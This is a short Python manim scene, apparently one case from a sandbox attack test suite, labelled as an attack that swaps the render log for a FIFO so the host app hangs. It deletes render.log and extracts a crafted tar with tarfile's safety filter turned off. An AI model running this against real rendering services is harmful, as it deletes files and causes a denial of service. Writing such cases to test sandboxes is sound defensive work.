# family: file
# layer: sandbox
# attack: a FIFO in place of the log, so the app hangs opening it
import io
import os
import tarfile
from manim import *


class Attack(Scene):
    def construct(self):
        buf = io.BytesIO()
        with tarfile.open(fileobj=buf, mode="w") as tar:
            info = tarfile.TarInfo("render.log")
            info.type = tarfile.FIFOTYPE
            tar.addfile(info)
        buf.seek(0)
        os.remove("render.log")
        with tarfile.open(fileobj=buf) as tar:
            tar.extractall(".", filter="fully_trusted")
        self.wait(0.1)
